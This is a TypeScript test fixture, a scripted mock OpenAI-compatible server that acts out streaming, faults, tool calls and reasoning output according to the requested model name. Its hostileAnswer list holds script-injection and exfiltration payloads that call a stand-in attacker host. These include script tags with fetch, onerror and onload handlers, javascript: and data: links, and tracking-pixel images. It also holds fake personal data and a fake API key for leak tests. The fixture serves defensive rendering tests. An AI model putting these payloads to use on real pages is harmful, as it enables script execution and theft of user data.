/**
 * A scripted OpenAI-compatible server that keeps its own books. What it does is named by the request's model, so that one
 * server plays every fault. Shapes: OpenAI API reference, chat completions.
 */
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';

export interface UpstreamCall {
  readonly model: string;
  readonly body: Record<string, unknown>;
  readonly headers: IncomingMessage['headers'];
  readonly startedAt: number;
  /** When the caller closed the connection before the answer was whole. */
  abortedAt: number | null;
  finished: boolean;
}

export interface Upstream {
  readonly url: string;
  readonly calls: UpstreamCall[];
  close(): Promise<void>;
}

export const upstreamWords = ['Real ', 'tokens ', 'from ', 'a ', 'real ', 'server.'];
export const upstreamUsage = { prompt_tokens: 11, completion_tokens: 6, total_tokens: 17 };

type Behaviour = (call: UpstreamCall, response: ServerResponse) => void;

const chunk = (delta: object, finish: string | null = null) =>
  `data: ${JSON.stringify({ id: 'c1', object: 'chat.completion.chunk', created: 1, model: 'm', choices: [{ index: 0, delta, finish_reason: finish }] })}\n\n`;
const usageChunk = (usage: unknown) =>
  `data: ${JSON.stringify({ id: 'c1', object: 'chat.completion.chunk', created: 1, model: 'm', choices: [], usage })}\n\n`;

function answer(call: UpstreamCall, response: ServerResponse, usage: unknown = upstreamUsage): void {
  if (call.body.stream) {
    response.writeHead(200, { 'content-type': 'text/event-stream' });
    response.write(chunk({ role: 'assistant', content: '' }));
    for (const content of upstreamWords) response.write(chunk({ content }));
    response.write(chunk({}, 'stop'));
    response.write(usageChunk(usage));
    response.end('data: [DONE]\n\n');
  } else {
    response.writeHead(200, { 'content-type': 'application/json' });
    response.end(
      JSON.stringify({
        id: 'c1',
        object: 'chat.completion',
        created: 1,
        model: 'm',
        choices: [{ index: 0, message: { role: 'assistant', content: upstreamWords.join('') }, finish_reason: 'stop' }],
        usage,
      }),
    );
  }
  call.finished = true;
}

function sendWhole(response: ServerResponse, message: object, finish: string): void {
  const choices = [{ index: 0, message, finish_reason: finish }];
  response
    .writeHead(200, { 'content-type': 'application/json' })
    .end(
      JSON.stringify({ id: 'c1', object: 'chat.completion', created: 1, model: 'm', choices, usage: upstreamUsage }),
    );
}

const refuse =
  (status: number, code: string, headers: Record<string, string> = {}): Behaviour =>
  (_, response) => {
    response
      .writeHead(status, { 'content-type': 'application/json', ...headers })
      .end(JSON.stringify({ error: { message: `${code} said the server`, type: code, code } }));
  };

/** Words that a reader can count: a lost or doubled piece shows. */
export const countedWords = Array.from({ length: 80 }, (_, at) => `w${at + 1} `);

/** Markdown with every shape that an answer may have. */
export const markdownAnswer = [
  '## Three ways to pay\n\n',
  '| Way | Fee |\n| --- | ---: |\n| Card | 1.2 % |\n| Transfer | none |\n\n',
  'The fee is $f = 0.012 \\cdot p$, so:\n\n',
  '```ts\nconst fee = (price: number) => price * 0.012;\n```\n\n',
  '- **Card** is instant\n- Transfer takes `2` days\n',
];

/** What a hostile model or document would say; each line would run or call home if the page believed it. */
export const hostileAnswer = (home: string): readonly string[] => [
  'Before. <script>globalThis.attacked = 1; fetch("',
  `${home}/script")</script>\n\n`,
  `<img src="${home}/tag.png" onerror="globalThis.attacked = 2">\n\n`,
  `![pixel](${home}/markdown.png?leak=1)\n\n`,
  '[run me](javascript:globalThis.attacked=3)\n\n',
  '[open me](data:text/html,<script>globalThis.attacked=4</script>)\n\n',
  `<iframe src="${home}/frame"></iframe>\n\n<svg onload="globalThis.attacked=5"></svg>\n\n`,
  `<style>body{background:url(${home}/style.png)}</style>\n\n`,
  '$\\href{javascript:globalThis.attacked=6}{x}$ $\\includegraphics{',
  `${home}/math.png}$\n\nAfter.`,
];

/** Personal data and a key, each cut over pieces. */
export const leakyPieces = [
  'Call ',
  '138',
  '0013',
  '8000, mail ann',
  '@exam',
  'ple.com, key s',
  'k-proj-abcdEFGH12',
  '34567890 now.',
];

/** Streams pieces one after another, with a pause between them. */
const tell =
  (pieces: readonly string[], pauseMs: number): Behaviour =>
  (call, response) => {
    response.writeHead(200, { 'content-type': 'text/event-stream' });
    response.write(chunk({ role: 'assistant', content: '' }));
    let at = 0;
    const timer = setInterval(() => {
      const content = pieces[at];
      at += 1;
      if (content !== undefined) {
        response.write(chunk({ content }));
        return;
      }
      clearInterval(timer);
      response.write(chunk({}, 'stop'));
      response.write(usageChunk(upstreamUsage));
      response.end('data: [DONE]\n\n');
      call.finished = true;
    }, pauseMs);
    response.once('close', () => clearInterval(timer));
  };

/** The last thing a person said. */
function lastQuestion(call: UpstreamCall): string {
  const messages = call.body.messages as readonly { readonly role: string; readonly content: unknown }[];
  const content = messages.findLast(({ role }) => role === 'user')?.content;
  return typeof content === 'string' ? content : JSON.stringify(content);
}

/** One model that does what the question's words ask for, as a chat needs; asked anything else it says the question back. */
const obeys: Behaviour = (call, response) => {
  const question = lastQuestion(call);
  if (!call.body.stream) return answer(call, response);
  if (/\bcount\b/i.test(question)) return tell(countedWords, 40)(call, response);
  if (/\bforever\b/i.test(question)) return behaviours.slow?.(call, response);
  if (/\bmarkdown\b/i.test(question)) return tell(markdownAnswer, 5)(call, response);
  if (/\battack\b/i.test(question)) return tell(hostileAnswer('http://attacker.example'), 5)(call, response);
  return tell([`You said: ${question.split('\n').at(-1)}`], 5)(call, response);
};

/** Does the steps of writing that Wenku asks for, each in its shape; a topic with "slowly" takes its time. */
const writes: Behaviour = (call, response) => {
  const messages = call.body.messages as readonly { readonly role: string; readonly content: unknown }[];
  const asked = messages
    .filter(({ role }) => role === 'user')
    .map(({ content }) => (typeof content === 'string' ? content : JSON.stringify(content)))
    .join('\n');
  const passage = /<passage>\n([\s\S]*?)\n<\/passage>/.exec(asked)?.[1] ?? '';
  const title = /begin with the line "## (.+?)"|a line "## (?!title)(.+?)"/.exec(asked);
  const name = title?.[1] ?? title?.[2] ?? '';
  const pieces = /Write the outline/.test(asked)
    ? ['## Why it matters\n- cost\n', '- time\n## 怎样做\n- 第一步\n', '## What it brings\n- saving\n']
    : /Write one slide/.test(asked)
      ? [`## ${name}\n\n`, '- **First** point\n- 第二点\n\n', 'Notes: Say it plainly.\n']
      : /Write one section/.test(asked)
        ? [`## ${name}\n\n`, 'Goods may be returned ', 'within thirty days of delivery [1].\n', '\n- 要点一\n']
        : /Rewrite the passage/.test(asked)
          ? [passage.replace('long', 'short')]
          : /Translate the passage/.test(asked)
            ? [`译文：${passage}`]
            : /may goods be returned/.test(asked)
              ? ['Goods in their box may be returned ', 'within thirty days of delivery [1].']
              : [`You said: ${asked.split('\n').at(-1)}`];
  tell(pieces, /slowly/.test(asked) ? 400 : 5)(call, response);
};

/** Writes a circuit with a fault in line 4, and the right one once it is told so; about "nonsense" it never manages. */
const writesCircuits: Behaviour = (call, response) => {
  const question = lastQuestion(call);
  const told = question.includes('4:1: ') && !JSON.stringify(call.body.messages).includes('nonsense');
  const gate = told ? 'cx' : 'cnott';
  const words = `\`\`\`qasm\nOPENQASM 2.0;\ninclude "qelib1.inc";\nqreg q[3];\n${gate} q[0], q[1];\n\`\`\`\nOne controlled flip.`;
  if (call.body.stream) return tell([words], 1)(call, response);
  sendWhole(response, { role: 'assistant', content: words }, 'stop');
  call.finished = true;
};

/** Model name → what the server does. */
const behaviours: Readonly<Record<string, Behaviour>> = {
  scripted: (call, response) => answer(call, response),
  obeys,
  writes,
  leaky: (call, response) =>
    call.body.stream
      ? tell(leakyPieces, 2)(call, response)
      : sendWhole(response, { role: 'assistant', content: leakyPieces.join('') }, 'stop'),
  'writes-circuits': writesCircuits,
  lying: (call, response) => answer(call, response, { prompt_tokens: -5, completion_tokens: 1e15, total_tokens: 3 }),
  silent: (call, response) => answer(call, response, null),
  stalled: () => {},
  slow: (call, response) => {
    response.writeHead(200, { 'content-type': 'text/event-stream' });
    response.write(chunk({ role: 'assistant', content: '' }));
    const timer = setInterval(() => response.write(chunk({ content: 'tick ' })), 20);
    response.once('close', () => clearInterval(timer));
    setTimeout(() => {
      clearInterval(timer);
      if (response.destroyed) return;
      response.write(chunk({}, 'stop'));
      response.end('data: [DONE]\n\n');
      call.finished = true;
    }, 20_000).unref();
  },
  cut: (call, response) => {
    if (!call.body.stream) {
      response.writeHead(200, { 'content-type': 'application/json', 'content-length': '500' });
      response.write('{"id": "c1", "choices": [');
      setTimeout(() => response.destroy(), 20);
      return;
    }
    response.writeHead(200, { 'content-type': 'text/event-stream' });
    response.write(chunk({ role: 'assistant', content: '' }));
    response.write(chunk({ content: 'Half an ' }));
    setTimeout(() => response.destroy(), 20);
  },
  'error-in-stream': (_, response) => {
    response.writeHead(200, { 'content-type': 'text/event-stream' });
    response.write(chunk({ role: 'assistant', content: 'Half ' }));
    response.end(
      'data: {"error": {"message": "the server is on fire", "type": "server_error", "code": "internal"}}\n\n',
    );
  },
  /** Two calls at once: fragments interleaved, ids only on the first of each, a character split from its neighbours. */
  tools: (call, response) => {
    const whole = ['{"city":"Paris"}', '{"city":"北京"}'];
    const head = (index: number) => ({
      index,
      id: ['call_a', 'call_b'][index],
      type: 'function',
      function: { name: 'weather', arguments: '' },
    });
    if (!call.body.stream) {
      const toolCalls = whole.map((text, index) => ({
        ...head(index),
        function: { name: 'weather', arguments: text },
      }));
      sendWhole(response, { role: 'assistant', content: null, tool_calls: toolCalls }, 'tool_calls');
    } else {
      response.writeHead(200, { 'content-type': 'text/event-stream' });
      response.write(chunk({ role: 'assistant', content: null, tool_calls: [head(0)] }));
      response.write(chunk({ tool_calls: [head(1)] }));
      for (let from = 0; from < 20; from += 5)
        whole.forEach((text, index) => {
          const piece = text.slice(from, from + 5);
          if (piece) response.write(chunk({ tool_calls: [{ index, function: { arguments: piece } }] }));
        });
      response.write(chunk({}, 'tool_calls'));
      response.write(usageChunk(upstreamUsage));
      response.end('data: [DONE]\n\n');
    }
    call.finished = true;
  },
  thinking: (call, response) => {
    if (!call.body.stream) {
      sendWhole(response, { role: 'assistant', content: 'Done.', reasoning_content: 'Let me think.' }, 'stop');
    } else {
      response.writeHead(200, { 'content-type': 'text/event-stream' });
      response.write(chunk({ role: 'assistant', reasoning_content: 'Let me ' }));
      response.write(chunk({ reasoning_content: 'think.' }));
      response.write(chunk({ content: 'Done.' }));
      response.write(chunk({}, 'stop'));
      response.end(`${usageChunk(upstreamUsage)}data: [DONE]\n\n`);
    }
    call.finished = true;
  },
  length: (call, response) => {
    if (!call.body.stream) {
      sendWhole(response, { role: 'assistant', content: 'Half an ' }, 'length');
    } else {
      response.writeHead(200, { 'content-type': 'text/event-stream' });
      response.write(chunk({ role: 'assistant', content: 'Half an ' }));
      response.write(chunk({}, 'length'));
      response.end(`${usageChunk(upstreamUsage)}data: [DONE]\n\n`);
    }
    call.finished = true;
  },
  nonsense: (_, response) => {
    response.writeHead(200, { 'content-type': 'application/json' }).end('<html>surprise</html>');
  },
  'wrong-key': refuse(401, 'invalid_api_key'),
  'too-many': refuse(429, 'rate_limit_exceeded', { 'retry-after': '7' }),
  broken: refuse(500, 'server_error'),
};

export async function startUpstream(): Promise<Upstream> {
  const calls: UpstreamCall[] = [];
  const server = createServer((request, response) => {
    const parts: Buffer[] = [];
    request.on('data', (part: Buffer) => parts.push(part));
    request.on('end', () => {
      if (request.url?.endsWith('/models')) {
        response
          .writeHead(200, { 'content-type': 'application/json' })
          .end(
            JSON.stringify({ object: 'list', data: Object.keys(behaviours).map((id) => ({ id, object: 'model' })) }),
          );
        return;
      }
      const body = JSON.parse(Buffer.concat(parts).toString()) as Record<string, unknown>;
      const call: UpstreamCall = {
        model: String(body.model),
        body,
        headers: request.headers,
        startedAt: Date.now(),
        abortedAt: null,
        finished: false,
      };
      calls.push(call);
      response.once('close', () => {
        if (!response.writableFinished) call.abortedAt = Date.now();
      });
      (behaviours[call.model] ?? refuse(404, 'model_not_found'))(call, response);
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    calls,
    close: () =>
      new Promise((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
}
